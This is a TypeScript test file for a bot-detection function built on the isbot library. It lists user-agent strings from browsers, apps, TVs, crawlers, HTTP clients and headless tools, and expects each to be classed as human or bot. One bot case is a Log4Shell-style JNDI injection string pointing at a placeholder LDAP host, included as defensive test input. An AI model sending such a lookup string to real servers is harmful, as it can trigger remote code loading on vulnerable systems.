import { list } from 'isbot';
import { expect, test } from 'vitest';
import { isProgram, SHAPE_PATTERNS, WEAK_PATTERNS } from './bots.ts';

const android =
  'Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/114.0.5735.60 Mobile Safari/537.36';
const iphone =
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148';

test.each([
  [
    'WeChat on Android',
    `${android} MicroMessenger/8.0.49 Process/tools WeChat/arm64 Weixin NetType/WIFI Language/zh_CN ABI/arm64`,
  ],
  [
    'TikTok on Android',
    `${android} trill_360606 JsSdk/1.0 NetType/WIFI Channel/googleplay AppName/trill app_version/36.6.4`,
  ],
  ['Pinterest', `${android} [Pinterest/Android]`],
  ['Baidu', `${iphone} baiduboxapp/13.70.0.10 (Baidu; P2 17.0)`],
  [
    'Baidu of before',
    'Mozilla/5.0 (Linux; U; Android 4.2.2; zh-cn; vivo Y17T Build/JDQ39) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30 baiduboxapp/023_0.4_diordna_0821_027/KBB_71_2.2.4_T71Y+oviv/7300002a/|5441760/1',
  ],
  ['Bing', `${android} BingWeb/9.4.26267402`],
  ['a news app', `${iphone} SohuNews/5.4.1`],
  [
    'a television of Hisense',
    'Mozilla/5.0 (Linux; U) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.152 Safari/537.36 HbbTV/1.6.1 (+DRM; Hisense; MTK9602; Catch; SmartTV_2021;)',
  ],
  [
    'a phone called ruby',
    `${android} Instagram 312.0.0.34.111 Android (33/13; 440dpi; 1080x2179; Xiaomi/Redmi; 22101316G; ruby; mt6877; en_US; 548323754)`,
  ],
  [
    'a phone called java',
    'Mozilla/5.0 (Linux; Android 9; java Build/PPO29) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/100.0.4896.127 Mobile Safari/537.36',
  ],
  [
    'a phone called jackpot2lte',
    'Mozilla/5.0 (Linux; Android 9; jackpot2lte Build/PPR1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/100.0.4896.127 Mobile Safari/537.36',
  ],
  [
    'a phone of Google',
    'Mozilla/5.0 (Linux; U; Android 4.3; en-us; Google Nexus 4 Build/JLS36G) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30',
  ],
  ['an add-on', 'Mozilla/5.0 (Windows NT 5.1; rv:6.0) Gecko/20100101 Firefox/6.0 FirePHP/0.6'],
  ['a small browser', 'Dillo/2.2'],
  ['an old phone', 'SonyEricssonT100/R101'],
  ['an old console', 'Mozilla/5.0 (PLAYSTATION 3; 3.55)'],
  ['an engine named in the bracket', 'Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; Touch; rv:11.0)'],
  ['a browser whose text stops behind its engine', iphone],
  ['a phone of KaiOS', 'Mozilla/5.0 (Mobile; Nokia_2720_Flip; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5.2'],
  [
    'Instagram on an iPhone',
    `${iphone} Instagram 312.0.0.34.111 (iPhone14,5; iOS 17_0; en_US; en; scale=3.00; 1170x2532; 548323754)`,
  ],
  [
    'Outlook',
    'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; Microsoft Outlook 16.0.5444; ms-office; MSOffice 16)',
  ],
])('%s is human', (_, ua) => {
  expect(isProgram(ua)).toBe(false);
});

test.each([
  'Mozilla/5.0 (Linux; Android 7.0; SM-G930V Build/NRD90M) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
  'Mozilla/5.0 (Linux; Android 5.0; compatible; ExampleBot/1.0; +https://bot.example) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36',
  `${iphone} Chrome-Lighthouse`,
  `${android} Instagram 312.0.0.34.111 spider`,
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/140.0.0.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Safari/537.36 GTmetrix',
  'SAMSUNG-SGH-E250/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1 (compatible; Googlebot-Mobile/2.1; +http://www.google.com/bot.html)',
  'python-requests/2.32',
  'Go-http-client/2.0',
  'MyApp/1 CFNetwork/1410 Darwin/22',
  'My%20App/45 CFNetwork/1568.200.51 Darwin/24.1.0',
  'com.apple.WebKit.Networking/8621.2.5.10.10 Network/4277.120.1 iOS/18.5',
  'MyApp/5.1 (iPhone; iOS 17.5.1; Scale/3.00)',
  'MyApp/1.0 (com.example.MyApp; build:1; iOS 17.0.0) Alamofire/5.6.4',
  'Dart/3.0 (dart:io)',
  'Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A)',
  'com.example.app/1 (Linux; U; Android 14; en_US; Pixel 8; Build/UD1A; Cronet/119.0.6045.31)',
  'MyApp/3.2 okhttp/4.9.3',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)',
  'Mozilla/5.0 (Linux; Android 10; K)',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X)',
  'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) wkhtmltopdf Safari/538.1',
  '"Mozilla/5.0 (Windows NT 10.0; Win64; x64)"',
  `x \${jndi:ldap://a.example/b}`,
])('%s is a bot', (ua) => {
  expect(isProgram(ua)).toBe(true);
});

test('the weak patterns are patterns of isbot', () => {
  for (const pattern of WEAK_PATTERNS) expect(list).toContain(pattern);
});

test('the shape patterns are patterns of isbot too, and none of them is a weak one', () => {
  for (const pattern of SHAPE_PATTERNS) expect(list).toContain(pattern);
  expect(SHAPE_PATTERNS.filter((pattern) => WEAK_PATTERNS.includes(pattern))).toEqual([]);
});
